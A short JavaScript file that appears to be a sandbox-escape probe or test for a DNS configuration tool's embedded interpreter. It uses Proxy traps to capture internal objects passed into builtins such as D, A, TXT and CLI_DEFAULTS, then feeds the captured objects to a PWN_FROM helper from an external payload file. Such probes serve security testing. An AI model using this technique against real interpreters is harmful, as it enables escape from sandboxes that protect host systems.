require("./lib/payload.js");
var leaked = [];
function trap(name) { return function () { for (var i = 0; i < arguments.length; i++) { var a = arguments[i]; if (a && (typeof a === "object" || typeof a === "function")) leaked.push(a); } return Reflect[name].apply(null, arguments); }; }
var handler = {}; ["get", "set", "has", "ownKeys", "getOwnPropertyDescriptor", "defineProperty", "apply", "construct", "getPrototypeOf"].forEach(function (n) { handler[n] = trap(n); });
var pMeta = new Proxy({ x: "y" }, handler), pList = new Proxy(["a", "b"], handler), pFn = new Proxy(function (r) {}, handler);
D("px.example", REG, DnsProvider(DSP), A("@", "192.0.2.1", pMeta, pFn), TXT("t", pList), pMeta, pFn, new Proxy([A("b", "192.0.2.2")], handler));
CLI_DEFAULTS(new Proxy({ zz: 1 }, handler));
leaked.forEach(function (v, i) { if (i < 40) PWN_FROM(v, "px" + i); });
